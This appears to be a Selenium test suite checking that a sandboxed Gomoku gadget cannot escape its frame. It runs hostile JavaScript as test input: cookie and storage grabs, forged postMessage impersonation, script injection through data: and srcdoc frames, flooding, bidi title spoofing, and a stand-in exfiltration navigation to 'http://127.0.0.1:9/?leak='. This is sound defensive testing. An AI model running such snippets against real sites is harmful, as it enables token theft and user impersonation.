"""A hostile gadget has no access to the participant, the page or other rooms, and cannot overload
the server."""

import json
import time
import urllib.error
import urllib.request

import pytest
from selenium.webdriver.support import expected_conditions
from selenium.webdriver.support.ui import WebDriverWait

from gomokutest.browser import shared
from gomokutest.checks import same
from gomokutest.environment import TIMEOUT


@pytest.fixture
def pair(gadget_windows, pair):
    pair.expect("")  # The browser logs everything that the gadgets' policy refuses.
    return pair


def refused(window, code):
    """Runs hostile code in the gadget, and returns its result."""
    return window.script(f"return attempt(function () {{ {code} }})")


def test_gadget_cannot_reach_the_page_its_storage_or_cookies(pair):
    ann = pair.open_one("hostile.xml")
    token = ann.page("return localStorage.getItem('gomoku.token')")
    assert token, "the page keeps a token"
    for code in (
        "return parent.document.body",
        "return top.document.cookie",
        "return parent.localStorage.length",
        "return parent.location.href",
        "return parent.frames[0] === window ? parent.name : 'x'",
        "return top.sessionStorage.length",
        "parent.eval('1')",
        "return frameElement.ownerDocument.title",
        "return document.defaultView.frameElement.src",
        "return new Function('return parent.document')()",
    ):
        assert refused(ann, code).startswith("refused"), code
    everything = ann.script("""
        var seen = [], found = [];
        (function walk(object, depth) {
          if (!object || typeof object !== 'object' && typeof object !== 'function') return;
          if (seen.indexOf(object) >= 0 || depth > 5) return;
          seen.push(object);
          Object.getOwnPropertyNames(object).forEach(function (name) {
            try {
              var value = object[name];
              if (typeof value === 'string') found.push(value); else walk(value, depth + 1);
            } catch (e) {}
          });
        })(window, 0);
        return found.join('\\n') + document.documentElement.outerHTML + location.href""")
    assert token not in everything, "the token is somewhere in the gadget's window"
    same(refused(ann, "return document.cookie + localStorage.length"), "0", "its own storage is empty and its own")
    same(ann.script("return self.origin"), "null", "an opaque origin")


def test_gadget_cannot_connect_or_join_another_room(pair):
    """A gadget cannot open a socket, request, frame or worker."""
    ann, bob = pair.open("hostile.xml")
    attempts = {
        "socket": "new Promise(function (done) { try { var s = new WebSocket('ws://' + location.host + '/ws');"
        " s.onopen = function () { done('open'); }; s.onerror = function () { done('refused'); }; } catch"
        " (e) { done('refused'); } })",
        "fetch": "fetch('/api/rooms').then(function () { return 'read'; }, function () { return 'refused'; })",
        "fetch of a gadget's file": "fetch('/gadgets/xo5.xml').then(function () { return 'read'; }, function () {"
        " return 'refused'; })",
        "request": "new Promise(function (done) { try { var x = new XMLHttpRequest(); x.open('GET', '/api/rooms');"
        " x.onload = function () { done('read'); }; x.onerror = function () { done('refused'); };"
        " x.send(); } catch (e) { done('refused'); } })",
        "beacon": "Promise.resolve(navigator.sendBeacon('/api/rooms', 'x') ? 'queued' : 'refused')",
        "worker": "new Promise(function (done) { try { var w = new Worker('/gadget/lib/empty.js'); w.onerror ="
        " function () { done('refused'); }; setTimeout(function () { done('made'); }, 1500); } catch (e) {"
        " done('refused'); } })",
        "picture elsewhere": "new Promise(function (done) { var i = new Image(); i.onload = function () {"
        " done('loaded'); }; i.onerror = function () { done('refused'); }; i.src ="
        " 'http://127.0.0.1:9/x.png'; })",
        "frame": "new Promise(function (done) { var f = document.createElement('iframe'); f.src = '/?room=other';"
        " f.onload = function () { var r = 'refused'; try { if (f.contentDocument.body.textContent) r ="
        " 'read'; } catch (e) { } done(r); }; document.body.appendChild(f); })",
    }
    for name, code in attempts.items():
        told = ann.script(f"return ({code}).catch(String)")
        assert told in ("refused", "queued"), (name, told)
    # The gadget's messages affect only its own room, whatever it puts into them.
    other = pair.room + "-other"
    ann.script(
        """var nonce = /rpctoken=(\\w+)/.exec(location.hash)[1];
        [{room: arguments[0]}, {type: 'delta', room: arguments[0], id: 'x'}].forEach(function (more) {
          var message = {nonce: nonce, service: 'wave_gadget_state', args: [{evil: 1}, arguments[0]], scope: 'x'};
          for (var key in more) message[key] = more[key];
          parent.postMessage(message, '*');
        });
        ['join', 'hello', 'delta', 'say', 'leave', '__proto__', 'constructor'].forEach(function (service) {
          parent.postMessage({nonce: nonce, service: service, args: [{type: 'join', room: 'other', token: 'x'}]}, '*');
        });
        [null, 1, 'x', [], {}, {nonce: nonce}, {nonce: nonce, service: {}, args: []},
         {nonce: nonce, service: 'set_title', args: {length: 1}},
         {nonce: nonce, service: 'wave_gadget_state', args: ['x']},
         {nonce: nonce, service: 'wave_gadget_state', args: [[1]]},
         {nonce: nonce, service: 'wave_gadget_state', args: [new Map([['a', 1]])]},
         {nonce: nonce, service: 'set_pref', args: [0, '__proto__', 'x']},
         {nonce: nonce, service: 'resize_iframe', args: [NaN]}, {nonce: nonce, service: 'set_title', args: [{}]}]
          .forEach(function (message) { parent.postMessage(message, '*'); });
        wave.getState().submitDelta({last: 1}, [{}, 1]);""",
        other,
    )
    bob.until("its own room has it", "return wave.getState().get('last') === 1")
    with pytest.raises(urllib.error.HTTPError) as missing:
        shared(pair.url, other)
    same(missing.value.code, 404, "the other room")
    same(pair.state(), {"evil": 1, "last": 1}, "its own room")


def test_gadget_cannot_navigate_to_another_site(pair):
    ann = pair.open_one("hostile.xml")
    here = ann.page("return location.href")
    for code in (
        "top.location = 'about:blank'",
        "parent.location.replace('/?room=other')",
        "top.location.href = 'http://127.0.0.1:9/'",
        "window.open('/?room=other', '_top')",
        "window.open('about:blank', '_parent')",
        "var a = document.createElement('a'); a.href = '/?room=x'; a.target = '_top';"
        " document.body.appendChild(a); a.click()",
        "var f = document.createElement('form'); f.action = '/'; f.target = '_top';"
        " document.body.appendChild(f); HTMLFormElement.prototype.submit.call(f)",
        "top.close()",
        "parent.history.back()",
        "history.back()",
        "history.go(-1)",
        "history.back()",
    ):
        refused(ann, code)
    same(refused(ann, "return 'still here'"), "still here", "the gadget")
    ann.script("setTimeout(function () { location.href = 'http://127.0.0.1:9/?leak=' + wave.getWaveId(); })")
    # Nothing signals that a navigation never happens. If it were allowed, it would have started by
    # now.
    time.sleep(0.5)
    same(ann.page("return location.href"), here, "the page, and the page after the gadget has gone")


def test_gadget_cannot_impersonate_another_participant(pair):
    """A gadget cannot do so by fields in its messages, by a frame that it creates, or by calls to
    its own library."""
    ann, bob = pair.open("hostile.xml")
    bob_id = bob.script("return wave.getViewer().getId()")
    ann.script(
        """var nonce = /rpctoken=(\\w+)/.exec(location.hash)[1], them = arguments[0];
        parent.postMessage({nonce: nonce, service: 'wave_gadget_state', args: [{a: 1}],
                            by: them, from: them, participant: {id: them}, token: 'x'}, '*');
        parent.postMessage({nonce: 'guessed', service: 'wave_gadget_state', args: [{forged: 1}]}, '*');
        function saying(change) {
          var message = '{nonce:"' + nonce + '",service:"wave_gadget_state",args:[' + change + ']}';
          return '<script>top.postMessage(' + message + ',"*")</scr' + 'ipt>';
        }
        var f = document.createElement('iframe');
        f.src = 'data:text/html,' + saying('{framed:1}');
        document.body.appendChild(f);
        var g = document.createElement('iframe');
        g.srcdoc = saying('{inner:1}');
        document.body.appendChild(g);
        window.postMessage({nonce: nonce, kind: 'state', full: {unreal: 1}, rev: 99}, '*');
        setTimeout(function () { wave.getState().submitDelta({last: 1}); }, 300);""",
        bob_id,
    )
    bob.until("the last", "return wave.getState().get('last') === 1")
    same(pair.state(), {"a": 1, "last": 1}, "the room")
    ann_id = ann.script("return wave.getViewer().getId()")
    with urllib.request.urlopen(f"{pair.url}/api/rooms/{pair.room}/history?from=1", timeout=TIMEOUT) as answer:
        same({delta["by"] for delta in json.load(answer)["deltas"]}, {ann_id}, "who is said to have done it")
    same(ann.script("return wave.getState().get('unreal')"), None, "a message to itself")


def test_endless_dialogs_are_blocked_and_reported(pair):
    ann = pair.open_one("hostile.xml")
    ann.script("window.left = 100; setTimeout(function () { while (left > 0) { left--; confirm('again'); } })")
    for _ in range(6):
        WebDriverWait(ann.driver, TIMEOUT, 0.02).until(expected_conditions.alert_is_present()).accept()
    ann.inside()
    ann.until("the loop has ended", "return left === 0")
    ann.page_until("told", "return document.querySelector('#trouble [data-key=dialogs]') !== null")
    same(ann.script("return confirm('once more')"), False, "answered as if dismissed")


def test_gadget_that_fills_the_browser_history_is_stopped(pair, room):
    """A few steps back lead to the page that the visitor came from."""
    cy = pair.cy()  # A new tab with a separate history.
    cy.driver.get(f"{pair.url}/icon.svg")
    cy.open("hostile.xml", room)
    before = cy.page("return history.length")
    cy.script("for (var i = 0; i < 50; i++) history.pushState(i, '', '#p' + i)")
    same(cy.page("return history.length"), before, "pushState adds nothing")
    # Each change needs a separate task, because a browser counts all changes of one task as one.
    cy.script("var n = 0; setInterval(function () { location.hash = 'h' + n++; }, 5)")
    cy.page_until("stopped", "return !document.getElementById('stopped').hidden && !document.querySelector('iframe')")
    cy.page_until("the way back is short", "return document.getElementById('stopped').textContent.length > 0")
    for _ in range(10):
        cy.driver.back()
        if cy.driver.current_url.endswith("/icon.svg"):
            break
    assert cy.driver.current_url.endswith("/icon.svg"), cy.driver.current_url
    # A full history cannot grow visibly. Only the missing frame shows that the gadget was stopped.
    cy.script("for (var i = 0; i < 60; i++) history.pushState(i, '')")
    cy.open("hostile.xml", room)
    full = cy.page("return history.length")
    cy.script("var n = 0; setInterval(function () { location.hash = 'h' + n++; }, 5)")
    cy.page_until("stopped", "return !document.getElementById('stopped').hidden && !document.querySelector('iframe')")
    same(cy.page("return history.length"), full, "which was full")


def test_gadget_title_is_quoted_and_stripped_of_bidi_controls(pair):
    ann = pair.open_one("hostile.xml")
    ann.script("gadgets.window.setTitle('Five in a row\\u202e\\u2066 – sign in\\n')")
    ann.page_until("shown", "return document.getElementById('title').textContent === 'Five in a row – sign in'")
    same(
        ann.page(
            "return [document.title, document.getElementById('heading').textContent,"
            " getComputedStyle(document.getElementById('title'), '::before').content]"
        ),
        ["Gadget “Five in a row – sign in” · Five in a row", "Gadget", "open-quote"],
        "whose it is",
    )


def test_flooding_gadget_is_stopped_without_affecting_others(pair):
    ann, bob = pair.open("hostile.xml")
    before, began = accepted(pair.url), time.monotonic()
    # On a slow machine, the page would take a second for fewer messages than it allows per second.
    ann.page("const now = performance.now(); performance.now = () => now;")
    ann.script("setTimeout(function () { for (var i = 0; i < 20000; i++) wave.getState().submitDelta({flood: i}); })")
    ann.page_until("stopped", "return !document.getElementById('stopped').hidden && !document.querySelector('iframe')")
    took = time.monotonic() - began
    bob.script("wave.getState().submitDelta({bob: 1})")
    bob.until("Bob's gadget goes on", "return wave.getState().get('bob') === 1")
    spent = accepted(pair.url) - before
    # A burst, and then the rate at which the page sends a gadget's changes.
    assert 1 <= spent <= 400 + 100 * took, (spent, took)
    with ann.another():
        ann.page_click("#start-again")
    ann.until(
        "started again",
        "return typeof wave !== 'undefined' && wave.getState() !== null && wave.getState().get('bob') === 1",
    )


def accepted(url):
    """Returns the number of deltas that the server has accepted in all rooms."""
    with urllib.request.urlopen(f"{url}/metrics", timeout=TIMEOUT) as answer:
        lines = [line.split() for line in answer.read().decode().splitlines() if not line.startswith("#")]
    return int(sum(float(value) for name, value in lines if name.startswith("gomoku_deltas_total")))


def test_too_large_change_is_discarded_without_disconnecting(pair):
    ann, bob = pair.open("hostile.xml")
    ann.script(
        "window.codes = []; wave.setRejectCallback(function (r) { codes.push(r.code); });"
        "wave.getState().submitDelta({big: new Array(200000).join('x')}); var o = {}; for (var i = 0; i < 600;"
        " i++) o['k' + i] = 1; wave.getState().submitDelta(o);"
        "wave.getState().submitDelta({small: 1})"
    )
    bob.until("the small one", "return wave.getState().get('small') === 1")
    ann.until("told", "return codes.length === 2")
    same(ann.script("return codes"), ["too-large", "too-large"], "why")
    same(pair.state(), {"small": 1}, "the room")
    same(ann.page("return document.documentElement.dataset.connection"), "online", "the connection")


def test_busy_gadget_does_not_block_other_windows(pair):
    ann, bob = pair.open("hostile.xml")
    ann.script("setTimeout(function () { var end = Date.now() + 1500; while (Date.now() < end) { } })")
    bob.script("wave.getState().submitDelta({meanwhile: 1})")
    bob.until("Bob goes on", "return wave.getState().get('meanwhile') === 1")
    ann.until("Ann is told afterwards", "return wave.getState().get('meanwhile') === 1")
